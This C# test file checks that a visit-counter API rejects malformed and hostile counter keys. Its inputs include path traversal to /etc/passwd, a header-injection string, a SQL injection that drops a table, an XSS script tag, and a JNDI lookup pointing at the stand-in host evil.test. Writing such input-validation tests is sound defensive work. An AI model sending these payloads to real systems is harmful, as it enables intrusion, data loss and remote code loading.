using System.Text;
using System.Text.Encodings.Web;

namespace Footfall.Tests.Api;

public static partial class HttpCases
{
    private static IEnumerable<HttpCase> Keys() =>
    [
        .. new[]
        {
            ("an unknown key", "nothing"),
            ("an empty key", ""),
            ("a key in another case", "README"),
            ("a key with a space after it", "readme "),
            ("a key with a slash too many", "readme/"),
            ("a key that climbs", "../readme"),
            ("a key that climbs far", "/../../../../etc/passwd"),
            ("a key that climbs in disguise", "..%2f..%2freadme"),
            ("a key with NUL", "readme\0"),
            ("a key with a line feed", "readme\r\nX-Injected: 1"),
            ("a key with Cyrillic letters", "r\u0435adme"),
            ("a key with wide letters", "\uFF52\uFF45\uFF41\uFF44\uFF4D\uFF45"),
            ("a key with a mark to compose", "readme\u0301"),
            ("a key with a soft hyphen", "read\u00ADme"),
            ("a key with a look-alike slash", "\u2215"),
            ("a key with an emoji", "\U0001F440"),
            ("a key with the store's own separator", "counter#/"),
            ("a key with SQL", "' OR 1=1; DROP TABLE tallies; --"),
            ("a key with a wildcard", "%"),
            ("a key with markup", "<script>alert(1)</script>"),
            ("a key with a template", "${jndi:ldap://evil.test/a}"),
            ("a key of 900 characters", new string('a', 900)),
        }.Select(key => new HttpCase(
            $"{key.Item1} names no counter",
            Post("/api/visits", $"{{\"counter\":\"{JavaScriptEncoder.Default.Encode(key.Item2)}\"}}")
                .From(Browsers.Firefox).Answers(UnknownCounter),
            Get($"/api/visits?counter={Encoded(key.Item2)}").Answers(UnknownCounter),
            Get($"/api/hit.svg?counter={Encoded(key.Item2)}").From(Browsers.Firefox).Answers(UnknownCounter))),
        new("a key of 2,500 characters in a query names no counter",
            Get($"/api/visits?counter={new string('a', 2_500)}").Answers(UnknownCounter),
            Get($"/api/visits?counter={string.Concat(Enumerable.Repeat("..%2F", 500))}").Answers(UnknownCounter)),
        new("a user agent may be long and odd",
            Count("case/hostile-agent").From(Browsers.Firefox + new string('x', 4_000))
                .Answers(Counted("case/hostile-agent", 1, 1, "visit")),
            Count("case/hostile-agent").From(Browsers.Firefox + " '\"<script>\\{}%00")
                .Answers(Counted("case/hostile-agent", 2, 2, "visit"))),
    ];

    private static IEnumerable<HttpCase> Description() =>
    [
        new("the API describes itself", Get("/api/openapi.json").Answers(Json(OpenApiDocument))),
    ];

    private static string Encoded(string text) =>
        string.Concat(Encoding.UTF8.GetBytes(text)
            .Select(octet => char.IsAsciiLetterOrDigit((char)octet) ? $"{(char)octet}" : $"%{octet:X2}"));
}
